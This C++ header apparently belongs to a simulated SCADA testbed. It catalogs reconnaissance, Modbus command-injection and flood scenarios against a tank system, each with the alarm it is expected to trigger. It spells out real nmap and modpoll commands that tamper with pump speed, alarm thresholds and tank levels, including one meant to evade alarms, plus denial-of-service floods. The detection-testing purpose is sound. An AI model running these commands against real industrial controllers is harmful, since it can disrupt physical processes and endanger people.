#pragma once

// Scenario catalog: reconnaissance, command injection and flood runs with
// the alarm outcome each is expected to produce on the tank system.

#include <functional>
#include <optional>
#include <string>
#include <vector>

#include "scada/attack/modpoll.hpp"
#include "scada/attack/scans.hpp"

namespace scada::attack {

enum class Category { reconnaissance, command_injection, dos };

inline const char* category_name(Category c)
{
    switch (c) {
    case Category::reconnaissance: return "RECONNAISSANCE";
    case Category::command_injection: return "COMMAND_INJECTION";
    case Category::dos: return "DOS";
    }
    return "?";
}

/// What a scenario may touch besides the attacker itself.
struct ScenarioContext {
    Attacker& attacker;
    net::Ipv4 target;
    net::Cidr target_net;
    std::uint16_t modbus_port = 502;
    sim::Time deadline{0};
    std::function<void(std::int16_t)> operator_speed; // legitimate HMI write
    std::size_t flood_workers = 128;
    std::size_t crc_flood_count = 10000;

    sim::Scheduler& sched() { return attacker.sched(); }
    net::Endpoint modbus() const { return {target, modbus_port}; }
    bool expired() { return sched().now() >= deadline; }
};

struct Scenario {
    std::string code;
    Category category;
    std::string purpose;
    std::string command; // the shell form of the attack
    bool expected_alarm = false;
    sim::Duration window{};                           // upper bound on the attack phase
    std::optional<std::pair<double, double>> preset; // tank levels before the attack starts
    std::function<sim::Task<void>(ScenarioContext&)> run;
};

namespace detail {

/// One modpoll invocation from a shell line; {target} names the victim.
inline sim::Task<ModpollResult> modpoll(ScenarioContext& ctx, std::string line, std::optional<sim::Time> until = std::nullopt)
{
    static constexpr std::string_view marker = "{target}";
    auto at = line.find(marker);
    if (at != std::string::npos) line.replace(at, marker.size(), ctx.target.str());
    co_return co_await run_modpoll(ctx.attacker, parse_modpoll(line), until);
}

inline sim::Task<void> raw_frames(ScenarioContext& ctx, std::vector<Bytes> frames, std::string tool)
{
    auto& a = ctx.attacker;
    auto c = co_await a.connect(tool, ctx.modbus());
    if (!c.ok()) co_return;
    auto local = c.stream.local();
    for (auto& f : frames) {
        if (!c.stream.open()) {
            c = co_await a.connect(tool, ctx.modbus());
            if (!c.ok()) co_return;
            local = c.stream.local();
        }
        a.log(tool, TranscriptEntry::Kind::request, local, ctx.modbus(), f);
        c.stream.send(f);
        auto m = co_await c.stream.recv(std::chrono::milliseconds(500));
        if (m.status == sim::Mailbox<Bytes>::Status::item)
            a.log(tool, TranscriptEntry::Kind::response, local, ctx.modbus(), *m.item);
        else
            a.log(tool, m.status == sim::Mailbox<Bytes>::Status::closed ? TranscriptEntry::Kind::closed : TranscriptEntry::Kind::timeout,
                  local, ctx.modbus());
    }
    c.stream.close();
}

inline std::vector<Bytes> split_frames(std::string_view hex, std::size_t frame_len)
{
    auto all = from_hex(hex);
    std::vector<Bytes> out;
    for (std::size_t i = 0; i < all.size(); i += frame_len)
        out.emplace_back(all.begin() + std::ptrdiff_t(i), all.begin() + std::ptrdiff_t(std::min(all.size(), i + frame_len)));
    return out;
}

inline sim::Task<void> rec01(ScenarioContext& ctx)
{
    auto live = co_await ping_sweep(ctx.attacker, ctx.target_net);
    for (auto ip : live) co_await syn_scan(ctx.attacker, ip, top100_tcp_ports());
}

inline sim::Task<void> rec02(ScenarioContext& ctx)
{
    auto& a = ctx.attacker;
    if (!co_await host_alive(a, ctx.target)) co_return;
    auto ports = port_range(1, 1024);
    for (std::uint16_t extra : {1433, 3306, 5900, 8080, 20000, 44818, 47808}) ports.push_back(extra);
    auto scan = co_await syn_scan(a, ctx.target, ports);
    std::optional<std::uint16_t> open, closed;
    for (auto& [p, s] : scan) {
        if (s == PortState::open && !open) open = p;
        if (s == PortState::closed && !closed) closed = p;
    }
    co_await os_probes(a, ctx.target, open.value_or(80), closed.value_or(1));
    for (auto& [p, s] : scan) {
        if (s != PortState::open) continue;
        Bytes nudge;
        if (p == 80 || p == 8080) {
            std::string get = "GET / HTTP/1.0\r\n\r\n";
            nudge.assign(get.begin(), get.end());
        }
        co_await banner_grab(a, {ctx.target, p}, std::chrono::seconds(2), nudge);
    }
}

inline sim::Task<void> rec03(ScenarioContext& ctx)
{
    co_await unit_sweep(ctx.attacker, ctx.modbus());
    co_await function_scan(ctx.attacker, ctx.modbus());
}

inline sim::Task<void> rec04(ScenarioContext& ctx)
{
    MemoryScanOptions opt;
    opt.until = ctx.deadline;
    co_await memory_scan(ctx.attacker, ctx.modbus(), opt);
}

inline sim::Task<void> ci01(ScenarioContext& ctx)
{
    co_await raw_frames(ctx,
                        split_frames("00 01 00 00 00 09 00 00 00 00 00 00 00 00 00 "
                                     "00 01 00 00 00 09 11 11 11 11 11 11 11 11 11 "
                                     "00 01 00 00 00 09 FF FF FF FF FF FF FF FF FF "
                                     "00 01 00 00 00 09 45 75 A4 53 21 88 BA 1C E7",
                                     15),
                        "testcenter");
}

inline sim::Task<void> ci02(ScenarioContext& ctx)
{
    co_await raw_frames(ctx,
                        split_frames("00 01 00 00 00 08 01 10 7D D2 00 01 02 FF FB "
                                     "00 01 00 00 00 10 01 10 7D D2 00 01 02 FF FB "
                                     "00 01 00 00 00 00 01 10 7D D2 00 01 02 FF FB "
                                     "00 01 00 00 00 FF 01 10 7D D2 00 01 02 FF FB "
                                     "00 01 00 00 00 74 01 10 7D D2 00 01 02 FF FB",
                                     15),
                        "testcenter");
}

inline sim::Task<void> ci03(ScenarioContext& ctx)
{
    auto half = ctx.sched().now() + (ctx.deadline - ctx.sched().now()) / 2;
    co_await modpoll(ctx, "-0 -r 32210 {target} -- 200", half);
    co_await ctx.sched().sleep_until(half);
    co_await modpoll(ctx, "-0 -r 32210 {target} -- -200", ctx.deadline);
}

inline sim::Task<void> ci04(ScenarioContext& ctx) { co_await modpoll(ctx, "-0 -r 32210 {target} 5", ctx.deadline); }

inline sim::Task<void> ci05(ScenarioContext& ctx) { co_await modpoll(ctx, "-0 -r 32210 {target} -- -1", ctx.deadline); }

inline sim::Task<void> ci06(ScenarioContext& ctx)
{
    if (ctx.operator_speed) ctx.operator_speed(5);
    while (!ctx.expired()) {
        co_await modpoll(ctx, "-0 -1 -r 42212 {target} 120");
        co_await modpoll(ctx, "-0 -1 -r 42214 {target} 120");
    }
}

inline sim::Task<void> ci07(ScenarioContext& ctx)
{
    while (!ctx.expired()) {
        co_await modpoll(ctx, "-0 -1 -r 32210 {target} 2");
        co_await ctx.sched().sleep(std::chrono::seconds(1));
        co_await modpoll(ctx, "-0 -1 -r 32210 {target} -- -2");
        co_await ctx.sched().sleep(std::chrono::seconds(1));
    }
}

inline sim::Task<void> level_loop(ScenarioContext& ctx, const char* first, const char* second)
{
    while (!ctx.expired()) {
        co_await modpoll(ctx, first);
        co_await modpoll(ctx, second);
    }
}

inline sim::Task<void> ci08(ScenarioContext& ctx) { co_await level_loop(ctx, "-0 -1 -r 42210 {target} 50", "-0 -1 -r 42211 {target} 50"); }

inline sim::Task<void> ci09(ScenarioContext& ctx)
{
    co_await level_loop(ctx, "-0 -1 -r 42210 {target} -- -50", "-0 -1 -r 42211 {target} -- -50");
}

inline sim::Task<void> dos01(ScenarioContext& ctx)
{
    auto worker = [](ScenarioContext& c) -> sim::Task<int> {
        while (!c.expired()) {
            co_await c.sched().sleep(c.attacker.settings().process_start);
            MemoryScanOptions opt;
            opt.keep_values = false;
            opt.until = c.deadline;
            auto d = co_await memory_scan(c.attacker, c.modbus(), opt);
            if (!d.connected) co_await c.sched().sleep(std::chrono::milliseconds(100));
        }
        co_return 0;
    };
    std::vector<sim::Task<int>> workers;
    for (std::size_t i = 0; i < ctx.flood_workers; ++i) workers.push_back(worker(ctx));
    co_await sim::gather(ctx.sched(), std::move(workers), ctx.flood_workers);
}

inline sim::Task<void> dos02(ScenarioContext& ctx)
{
    for (std::size_t i = 0; i < ctx.crc_flood_count && !ctx.expired(); ++i)
        co_await modpoll(ctx, "-m enc -t 3 -0 -r 32210 -1 -o 0.01 --bad-crc {target}");
}

} // namespace detail

inline const std::vector<Scenario>& scenario_catalog()
{
    using namespace std::chrono_literals;
    using C = Category;
    static const std::vector<Scenario> list{
        {"REC-01", C::reconnaissance, "SCADA network IP range quick scan", "nmap -T4 -F 10.0.0.0/24", false, 120s, {}, detail::rec01},
        {"REC-02", C::reconnaissance, "SCADA network single IP intense scan; device identification scans",
         "nmap -T4 -A -v 10.0.0.5", false, 120s, {}, detail::rec02},
        {"REC-03", C::reconnaissance, "Modbus address and function code scan",
         "nmap --script modbus-discover.nse --script-args='modbus-discover.aggressive=true' -p 502 10.0.0.5", false, 120s,
         {}, detail::rec03},
        {"REC-04", C::reconnaissance, "PLC memory full scan", "scan.sh", false, 120s, {}, detail::rec04},
        {"CI-01", C::command_injection, "Right payload size filled with all 0, all 1, all F or random bits",
         "Test Center: 4 frames", false, 5s, {}, detail::ci01},
        {"CI-02", C::command_injection, "Incorrect payload size", "Test Center: 5 frames", false, 5s, {}, detail::ci02},
        {"CI-03", C::command_injection, "Out of bound pump speed 200 / -200",
         "modpoll -0 -r 32210 10.0.0.5 -- 200; modpoll -0 -r 32210 10.0.0.5 -- -200", true, 10s, {}, detail::ci03},
        {"CI-04", C::command_injection, "Regular pump speed without stop", "modpoll -0 -r 32210 10.0.0.5 5", true, 20s, {},
         detail::ci04},
        {"CI-05", C::command_injection, "Slow pump speed without stop", "modpoll -0 -r 32210 10.0.0.5 -- -1", true, 60s,
         {}, detail::ci05},
        {"CI-06", C::command_injection, "Change the tank alarm thresholds while the pump runs",
         "while true; do modpoll -0 -1 -r 42212 10.0.0.5 120; modpoll -0 -1 -r 42214 10.0.0.5 120; done", true, 20s, {},
         detail::ci06},
        {"CI-07", C::command_injection, "Change the pump speed repetitively to keep it working without an alarm",
         "while true; do modpoll -0 -1 -r 32210 10.0.0.5 2; sleep 1; modpoll -0 -1 -r 32210 10.0.0.5 -- -2; sleep 1; done",
         false, 20s, {}, detail::ci07},
        {"CI-08", C::command_injection, "Change the tank level directly",
         "while true; do modpoll -0 -1 -r 42210 10.0.0.5 50; modpoll -0 -1 -r 42211 10.0.0.5 50; done", false, 20s,
         std::pair{97.0, 3.0}, detail::ci08},
        {"CI-09", C::command_injection, "Change the tank level to a negative value",
         "while true; do modpoll -0 -1 -r 42210 10.0.0.5 -- -50; modpoll -0 -1 -r 42211 10.0.0.5 -- -50; done", false,
         20s, std::pair{97.0, 3.0}, detail::ci09},
        {"DOS-01", C::dos, "Massive Modbus scans to push the PLC into denial of service",
         "while true; do scan.sh & done", false, 20s, {}, detail::dos01},
        {"DOS-02", C::dos, "Massive Modbus frames with incorrect CRC",
         "for i in {1..10000}; do modpoll -m enc -t 3 -0 -r 32210 -1 10.0.0.5; done", false, 600s, {}, detail::dos02},
    };
    return list;
}

inline const Scenario* find_scenario(std::string_view code)
{
    for (auto& s : scenario_catalog())
        if (s.code == code) return &s;
    return nullptr;
}

} // namespace scada::attack
